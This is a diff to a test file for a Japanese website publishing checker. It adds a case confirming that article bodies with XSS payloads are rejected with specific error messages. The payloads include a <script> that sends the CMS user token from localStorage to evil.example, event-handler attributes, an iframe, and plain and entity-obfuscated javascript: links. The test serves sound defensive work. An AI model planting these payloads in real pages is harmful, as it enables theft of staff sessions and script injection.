@@ -74,6 +74,11 @@ NOT_UTF8 = "文字コードが UTF-8 ではありません（{}で保存され�
 UNREADABLE = "を読み取れません（例: 2026-04-01 10:00、2026/4/1、令和8年4月1日 10時）"
 JA_TEXT = md("---", "title: 秋の説明会", "date: 2026-04-01", "categories: [kurashi]", "---", "本文です。")
 
+HTML_GUIDE = "（使える HTML は docs/staff-guide.md の「本文に書ける HTML」にあります）"
+NO_URL = (
+    "というアドレスは使えません。リンクと画像には https:// で始まるアドレス"
+    "（mailto: と tel: も可）か、content/ の中のファイルを書いてください"
+)
 # name: (files added to the good site, every line `publisher check` must print)
 SUFFIX = "のファイルは検査されずに公開されてしまいます。拡張子を小文字の .md にしてください"
 CASES = {
@@ -468,6 +473,33 @@ CASES = {
             f"{P}news/2026/schedule.md:6: expire_at（掲載終了日時）は publish_at（公開日時）より後の日時にしてください"
         ],
     ),
+    "html_script_and_handlers": (  # one staff account must never run script on the site
+        {
+            "news/2026/script.md": news(
+                body=(
+                    "本文です。",
+                    "",
+                    "<script>fetch('https://evil.example/?'+localStorage.getItem('decap-cms-user'))</script>",
+                    '<p onclick="alert(1)">押してください</p>',
+                    '<iframe src="https://evil.example/"></iframe>',
+                    "[詳しく](javascript:alert(1))",
+                    '<a href="jav&#x61;script:alert(1)">こちら</a>',
+                    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="図">',
+                    '段落です。{: onmouseover="alert(1)" }',
+                    "`<script>` と書けばコードとして表示されます。",
+                )
+            )
+        },
+        [
+            f"{P}news/2026/script.md:8: <script> は本文に書けません{HTML_GUIDE}",
+            f"{P}news/2026/script.md:9: <p> の onclick 属性は使えません{HTML_GUIDE}",
+            f"{P}news/2026/script.md:10: <iframe> は本文に書けません{HTML_GUIDE}",
+            f"{P}news/2026/script.md:11: 「javascript:alert(1)」{NO_URL}",
+            f"{P}news/2026/script.md:12: 「javascript:alert(1)」{NO_URL}",
+            f"{P}news/2026/script.md:13: 「data:image/svg+xml;base64,PHN2Zz4=」{NO_URL}",
+            f"{P}news/2026/script.md:14: 「{{ }}」の中の onmouseover は使えません（使えるのは .クラス名、#id、width、height、title）",
+        ],
+    ),
 }
 
 
@@ -640,7 +672,7 @@ def test_one_check_lists_every_problem(everything_broken):
     project, expected = everything_broken
     result = cli(project, "check")
     assert result.returncode == 1
-    assert len(result.stdout.splitlines()) == len(expected) == 60
+    assert len(result.stdout.splitlines()) == len(expected) == 67
     assert problem_lines(result.stdout) == expected
     assert f"{len(expected)} 件の問題があります" in result.stderr
 
